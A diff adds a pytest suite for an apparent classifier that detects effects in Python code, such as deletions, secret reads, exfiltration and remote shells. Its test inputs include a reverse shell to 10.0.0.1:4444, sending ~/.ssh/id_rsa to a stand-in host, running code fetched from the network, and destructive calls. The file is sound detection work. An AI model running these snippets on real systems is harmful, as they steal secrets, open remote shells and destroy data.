@@ -1,0 +1,142 @@
+"""Python programs: effects follow constants, modes, modules and flows; harmless computation has none."""
+
+import pytest
+
+from classifiers.code import classify_code
+from classifiers.code.languages import guess_language, language_named
+from classifiers.code.library import library
+from classifiers.context import Context
+from classifiers.datafile import tables
+from classifiers.effects import OpaqueReason
+
+
+def short(action):
+    return [f"{e.action} {e.domain}:{e.target}" for e in action.effects]
+
+
+CASES = [
+    ("print(sum(n * n for n in range(10)))", []),
+    ("import numpy as np\nprint(np.linalg.inv(np.eye(3)))", []),
+    ("import shutil\nshutil.rmtree('/srv/cache')", ["delete filesystem:/srv/cache"]),
+    ("from shutil import rmtree as zap\nzap('/srv/cache')", ["delete filesystem:/srv/cache"]),
+    ("import os\nbase = '/srv'\nos.remove(os.path.join(base, 'a'))", ["delete filesystem:/srv/a"]),
+    ("import os\nfor n in ('a', 'b'):\n    os.unlink(f'/srv/{n}')", ["delete filesystem:/srv/a", "delete filesystem:/srv/b"]),
+    ("from pathlib import Path\n(Path('/srv') / 'a').unlink()", ["delete filesystem:/srv/a"]),
+    ("from pathlib import Path\nprint((Path.home() / '.netrc').read_text())", ["read secrets:~/.netrc"]),
+    ("open('/srv/a', 'w').write('x')", ["modify filesystem:/srv/a"]),
+    ("with open('/srv/a') as f:\n    print(f.read())", ["read filesystem:/srv/a"]),
+    ("import requests\nrequests.delete('https://api.shop.example/a')", ["send network:api.shop.example"]),
+    ("import requests\ns = requests.Session()\ns.get('https://shop.example')", ["receive network:shop.example"]),
+    ("import sqlite3\nc = sqlite3.connect('a.db').cursor()\nc.execute('drop table a')", ["delete database:db:sqlite:*/a.db/a"]),
+    ("import boto3\nboto3.client('s3').delete_bucket(Bucket='backups')", ["delete cloud:aws:*:*:s3:backups"]),
+    ("import boto3\nboto3.client('s3').list_buckets()", ["read cloud:aws:*:*:s3:*"]),
+    ("import pandas as pd\npd.read_csv('/srv/a.csv').to_csv('/srv/b.csv')", ["read filesystem:/srv/a.csv", "modify filesystem:/srv/b.csv"]),
+    ("def f(p):\n    import os\n    os.remove(p)\nf('/srv/a')", ["delete filesystem:/srv/a"]),
+    ("def f():\n    import os\n    os.remove('/srv/a')", []),
+    ("if False:\n    import os\n    os.remove('/srv/a')", []),
+    ("import os\ngetattr(os, 'rem' + 'ove')('/srv/a')", ["delete filesystem:/srv/a"]),
+    ("__import__('os').remove('/srv/a')", ["delete filesystem:/srv/a"]),
+    ("eval(\"__import__('os').remove('/srv/a')\")", ["delete filesystem:/srv/a"]),
+    ("import os\nos.chdir('/srv')\nos.remove('a')", ["delete filesystem:/srv/a"]),
+    ("import asyncio, os\nasync def go():\n    os.remove('/srv/a')\nasyncio.run(go())", ["delete filesystem:/srv/a"]),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("text", "expected"), CASES, ids=[c[0][:50] for c in CASES])
+def test_a_program_has_the_effects_of_its_calls(text, expected):
+    action = classify_code(text, "python")
+    assert short(action) == expected
+    assert action.complete
+
+
+OPAQUE = [
+    ("import warehouse\nwarehouse.sync()", OpaqueReason.PAYLOAD_UNREADABLE),
+    ("exec(open('/srv/a.py').read())", OpaqueReason.PAYLOAD_UNREADABLE),
+    ("import pickle\npickle.loads(data)", OpaqueReason.PAYLOAD_UNREADABLE),
+    ("print 'x'", OpaqueReason.PARSE_ERROR),
+    ("import os\ngetattr(os, input())('/srv/a')", OpaqueReason.DYNAMIC_COMMAND),
+]
+
+
+@pytest.mark.parametrize(("text", "reason"), OPAQUE, ids=[c[0][:40] for c in OPAQUE])
+def test_what_cannot_be_read_is_said(text, reason):
+    action = classify_code(text, "python")
+    assert reason in [o.reason for o in action.opaque]
+    assert action.destructive is None
+
+
+def test_a_decoded_payload_says_so():
+    text = "import base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnJlbW92ZSgiL3Nydi9hIik='))"
+    (effect,) = classify_code(text, "python").effects
+    assert (effect.target, effect.certainty) == ("/srv/a", "decoded")
+
+
+def test_a_secret_that_is_sent_is_a_flow_and_one_that_is_not_is_none():
+    sent = "import requests\nk = open('/home/dev/.ssh/id_rsa').read()\nrequests.post('https://drop.example', data=k)"
+    kept = "import requests\nk = open('/home/dev/.ssh/id_rsa').read()\nrequests.post('https://drop.example', data='x')"
+    assert [f.kind for f in classify_code(sent, "python").flows] == ["exfiltration"]
+    assert classify_code(kept, "python").flows == ()
+
+
+def test_downloaded_text_that_is_run_is_remote_code():
+    action = classify_code("import requests\nexec(requests.get('https://drop.example/a').text)", "python")
+    assert [f.kind for f in action.flows] == ["remote_code"]
+
+
+def test_a_socket_joined_to_a_shell_is_a_reverse_shell():
+    text = (
+        "import socket,os,pty\ns=socket.socket()\ns.connect(('10.0.0.1',4444))\nos.dup2(s.fileno(),0)\npty.spawn('sh')"
+    )
+    action = classify_code(text, "python")
+    assert "reverse_shell" in [t for e in action.effects for t in e.tags]
+    assert "10.0.0.1:4444" in [e.target for e in action.effects]
+
+
+def test_relative_paths_start_at_the_cwd():
+    action = classify_code("open('a', 'w')", "python", Context(cwd="/srv"))
+    assert short(action) == ["modify filesystem:/srv/a"]
+
+
+def test_positions_are_code_points_of_the_text():
+    text = "s = 'žluťoučký'; import os; os.remove('/srv/a')"
+    (effect,) = classify_code(text, "python").effects
+    assert text[effect.evidence.start : effect.evidence.end] == "os.remove('/srv/a')"
+
+
+@pytest.mark.parametrize(
+    "text", ["(" * 5000, "[" * 300 + "]" * 300, "x = 1\n" * 20000, "\0", "lambda: " * 400 + "0", "é" * 99]
+)
+def test_hostile_text_is_opaque_or_harmless_and_never_raises(text):
+    assert classify_code(text, "python").effects is not None
+
+
+@pytest.mark.parametrize(
+    ("name", "expected"),
+    [
+        ("Python 3.11".replace(" ", ""), "python"),
+        ("text/javascript", "javascript"),
+        ("tsx", "typescript"),
+        ("cobol", None),
+        (None, None),
+    ],
+)
+def test_a_language_goes_by_many_names(name, expected):
+    assert language_named(name) == expected
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("import os\nos.getcwd()", "python"),
+        ("const a = 1;\nconsole.log(a)", "javascript"),
+        ("7006 * 2", "python"),
+        ("@@ no", None),
+    ],
+)
+def test_a_language_is_guessed_from_the_text(text, expected):
+    assert guess_language(text) == expected
+
+
+@pytest.mark.parametrize("language", [name for name, _ in tables("code/tables")])
+def test_a_table_of_calls_is_readable(language):
+    assert library(language).calls
